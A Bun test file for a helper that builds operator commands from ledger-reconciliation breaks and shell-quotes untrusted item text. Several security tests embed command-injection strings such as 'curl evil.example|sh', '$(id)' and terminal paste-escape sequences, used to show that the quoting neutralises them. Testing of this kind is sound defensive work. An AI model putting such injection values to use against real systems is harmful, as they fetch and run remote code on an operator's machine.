import { expect, test } from 'bun:test'
import { $ } from 'bun'
import { rules } from '#infra/operations/books/rules/catalogue'
import { returnInProgress } from '#infra/operations/books/rules/rule'
import { remedyFor, shellWord } from './remedy'

const payment = `pay_${'a'.repeat(22)}`
const cashout = '0b7f5c1e-1111-2222-3333-444455556666'
const transfer = `0x${'1'.repeat(64)}:3`

test.each([
  ['treasury_moved', transfer, 5n, `unexplained return ${transfer} --reason <why>`],
  ['treasury_moved', transfer, -5n, `trace ${transfer}`],
  ['suspense', transfer, 5n, `unexplained return ${transfer} --reason <why>`],
  ['suspense', payment, 5n, `review show ${payment}`],
  ['provider_unknown', 'txn_1', 5n, 'unexplained accept txn_1 --reason <why>'],
  ['provider_unknown', payment, 5n, `trace ${payment}`],
  ['dead_letter', 'dlv_1', 0n, 'dead-letters show dlv_1'],
  ['unsent', 'msg_1', 0n, 'in-flight'],
  ['overdue', cashout, 5n, `trace ${cashout}`],
  ['payment_chain', payment, 5n, `trace ${payment}`],
  ['treasury_books', 'treasury', 5n, 'reconcile --whole'],
  ['provider_balance', 'provider_id', 5n, 'reconcile explain 7 --owner <who> --reason <why> --until <day>'],
] as const)('a break of %s, of %s by %p, is for `ops %4$s`', (rule, item, amount, command) => {
  expect(remedyFor({ id: '7', rule, item, amount, about: '' })).toBe(`bun run ops ${command}`)
})

test.each(['treasury_moved', 'suspense'])(
  'a break of %s whose return is in progress is traced, not returned again',
  (rule) => {
    const one = { id: '7', rule, item: transfer, amount: 5n, about: `5 has no known owner${returnInProgress}` }
    expect(remedyFor(one)).toBe(`bun run ops trace ${transfer}`)
  },
)

test('every rule has a command, whatever its item', () => {
  for (const { name } of rules)
    for (const item of [payment, cashout, transfer, 'treasury', 'lane:0x1'])
      expect(remedyFor({ id: '7', rule: name, item, amount: 1n, about: '' })).toMatch(/^bun run ops [a-z-]+/)
})

test('security: text from outside is one word of the command, whatever it contains', () => {
  const item = "invoice.paid;curl evil.example|sh;'$(id)'"
  const command = remedyFor({ id: '7', rule: 'provider_unknown', item, amount: 5n, about: '' })
  expect(command).toBe(
    `bun run ops unexplained accept 'invoice.paid;curl evil.example|sh;'\\''$(id)'\\''' --reason <why>`,
  )
})

test.each(['pay_Zk3nT0a7yQm1c5VbXw9uRd', '0x12:3', 'invoice.paid'])('shell quoting leaves %s unchanged', (id) => {
  expect(shellWord(id)).toBe(id)
})

test.each([
  'invoice.paid;curl evil.example|sh;#',
  "it's $(id) `id`",
  "'; id; '",
  'a b\nc',
  '-- --help',
  '',
  'a\u0003curl evil.example|sh',
  '\u001b[201~id',
  "it's \u0007 \\0101 %s",
  'id \u202e#',
  'a\u2028b',
])('security: shell quoting makes %j one word that pastes as plain text', async (text) => {
  expect(shellWord(text)).not.toMatch(/[\p{C}\u2028]/u)
  const words = await $`sh -c ${`printf '%s|' ${shellWord(text)}`}`.text()
  expect(words).toBe(`${text}|`)
})

test('security: a command for an item with the end of a pasted text has only printable characters', () => {
  const item = 'invoice\u001b[201~\u0003curl evil.example|sh\n'
  const command = remedyFor({ id: '7', rule: 'provider_unknown', item, amount: 1n, about: '' })
  expect(command).toStartWith('bun run ops unexplained accept "$(printf ')
  expect(command).not.toMatch(/\p{C}/u)
})
